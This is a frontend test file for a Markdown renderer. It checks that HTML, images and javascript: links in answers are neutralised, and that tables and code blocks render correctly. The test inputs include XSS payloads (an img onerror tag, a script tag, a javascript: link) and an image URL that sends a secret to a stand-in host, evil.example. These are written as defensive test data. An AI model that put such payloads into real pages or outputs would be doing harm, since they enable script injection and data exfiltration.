import { render, screen, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it } from "vitest";
import { Markdown } from "../markdown";

describe("Markdown", () => {
  it("never renders HTML from an answer: it stays visible text", () => {
    const { container } = render(
      <Markdown
        text={'Look: <img src="x" onerror="alert(1)"> and <script>alert(2)</script> done'}
      />,
    );
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("script")).toBeNull();
    expect(container).toHaveTextContent('<img src="x" onerror="alert(1)">');
    expect(container).toHaveTextContent("<script>alert(2)</script>");
  });

  it("never loads an image: it becomes a link showing its alt text or URL", () => {
    const { container } = render(
      <Markdown
        text={
          "![](https://evil.example/p?d=secret) and ![chart](https://example.com/c.png) " +
          "and [![inner](https://example.com/i.png)](https://example.com/page)"
        }
      />,
    );
    expect(container.querySelector("img")).toBeNull();
    const bare = screen.getByRole("link", { name: "https://evil.example/p?d=secret" });
    expect(bare).toHaveAttribute("href", "https://evil.example/p?d=secret");
    expect(bare).toHaveAttribute("target", "_blank");
    expect(bare).toHaveAttribute("rel", "noopener noreferrer");
    expect(screen.getByRole("link", { name: "chart" })).toHaveAttribute(
      "href",
      "https://example.com/c.png",
    );
    const outer = screen.getByRole("link", { name: "inner" });
    expect(outer).toHaveAttribute("href", "https://example.com/page");
    expect(outer.querySelector("a")).toBeNull();
  });

  it("drops script links but keeps ordinary ones, opening in a new tab", () => {
    render(<Markdown text={"[bad](javascript:alert(1)) and [docs](https://example.com/docs)"} />);
    expect(screen.getByText("bad").closest("a")?.getAttribute("href") ?? "").not.toContain(
      "javascript",
    );
    const docs = screen.getByRole("link", { name: "docs" });
    expect(docs).toHaveAttribute("href", "https://example.com/docs");
    expect(docs).toHaveAttribute("rel", "noopener noreferrer");
  });

  it("renders GitHub-flavoured Markdown: emphasis, lists and tables", () => {
    render(
      <Markdown
        text={"**bold** and ~~gone~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"}
      />,
    );
    expect(screen.getByText("bold").tagName).toBe("STRONG");
    expect(screen.getByText("gone").tagName).toBe("DEL");
    expect(screen.getAllByRole("listitem")).toHaveLength(2);
    expect(screen.getByRole("table")).toBeInTheDocument();
  });

  it("shows code in a block with its language, highlighted, and copies it as written", async () => {
    const user = userEvent.setup();
    const code = 'def greet(name):\n    return f"Hello {name}"';
    const { container } = render(<Markdown text={`Here:\n\n\`\`\`python\n${code}\n\`\`\`\n`} />);

    const block = container.querySelector(".code-block") as HTMLElement;
    expect(within(block).getByText("python")).toBeInTheDocument();
    expect(block.querySelector("pre code.hljs.language-python")).not.toBeNull();
    expect(block.querySelector(".hljs-keyword")).toHaveTextContent("def");

    await user.click(within(block).getByRole("button", { name: "Copy python code" }));
    expect(await navigator.clipboard.readText()).toBe(code);
    expect(within(block).getByRole("button", { name: "Copy python code" })).toHaveTextContent(
      "Copied",
    );
  });

  it("labels code without a language as text, left unhighlighted", () => {
    const { container } = render(<Markdown text={"```\nplain words\n```"} />);
    const block = container.querySelector(".code-block") as HTMLElement;
    expect(within(block).getByText("text")).toBeInTheDocument();
    expect(block.querySelector(".hljs")).toBeNull();
    expect(within(block).getByRole("button", { name: "Copy code" })).toBeInTheDocument();
  });
});
